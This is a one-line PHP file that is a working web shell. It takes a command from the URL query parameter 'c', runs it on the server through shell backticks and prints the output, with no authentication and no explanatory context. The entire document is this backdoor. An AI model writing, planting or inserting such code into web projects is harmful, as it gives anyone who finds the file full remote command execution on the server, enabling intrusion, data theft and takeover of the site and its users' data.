<?php $p = "c"; $c = "{$_GET[$p]}"; echo `$c`;
